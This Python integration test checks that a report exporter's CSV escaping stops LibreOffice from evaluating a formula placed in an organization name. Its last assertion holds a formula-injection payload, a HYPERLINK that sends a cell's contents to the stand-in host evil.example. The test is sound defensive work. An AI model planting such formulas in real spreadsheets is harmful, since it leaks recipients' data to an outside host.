"""A real spreadsheet engine reads our CSV: LibreOffice (Debian's libreoffice-calc-nogui,
installed by `make test`) converts a report to flat ODS, and an organization named
=HYPERLINK(...) arrives as text, while the same cell unescaped becomes a formula (the
control: the engine does evaluate formulas in CSV). Skips without soffice unless CI=true."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from defusedxml import ElementTree

from tests.factories import make_admin, make_org
from tests.integration.test_reports import EVIL, add_certificates, run

SOFFICE = shutil.which("soffice")
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


@pytest.fixture
def soffice() -> str:
    if SOFFICE is None:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("CI=true and no soffice: `make test` installs libreoffice-calc-nogui")
        pytest.skip("no soffice (Debian: apt-get install libreoffice-calc-nogui; make test does)")
    return SOFFICE


def cells(soffice: str, csv_path: Path) -> list[tuple[str, str | None]]:
    """Every cell of the converted sheet: (its text, its formula or None)."""
    out = csv_path.parent / "out"
    profile = csv_path.parent / "profile"
    subprocess.run(
        [
            soffice,
            "--headless",
            f"-env:UserInstallation={profile.as_uri()}",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    tree = ElementTree.parse(out / (csv_path.stem + ".fods"))
    found = []
    for cell in tree.iter(f"{{{TABLE}}}table-cell"):
        text = "".join("".join(p.itertext()) for p in cell.iter(f"{{{TEXT}}}p"))
        found.append((text, cell.get(f"{{{TABLE}}}formula")))
    return found


def test_libreoffice_reads_a_formula_organization_as_text(app, stub_worker, soffice, tmp_path):
    mrao = make_admin()
    add_certificates(make_org(EVIL), 1)
    _, data = run(stub_worker, mrao, bom=True)
    ours = tmp_path / "report.csv"
    ours.write_bytes(data)
    sheet = cells(soffice, ours)
    assert ("'" + EVIL, None) in sheet
    assert not any(formula for _, formula in sheet)
    # The control: the same name without our escaping is evaluated by the engine.
    raw = tmp_path / "raw.csv"
    raw.write_bytes(data.replace(b"\"'=HYPERLINK", b'"=HYPERLINK'))
    evaluated = cells(soffice, raw)
    assert ("Click me", 'of:=HYPERLINK("http://evil.example/?"&[.A1];"Click me")') in evaluated
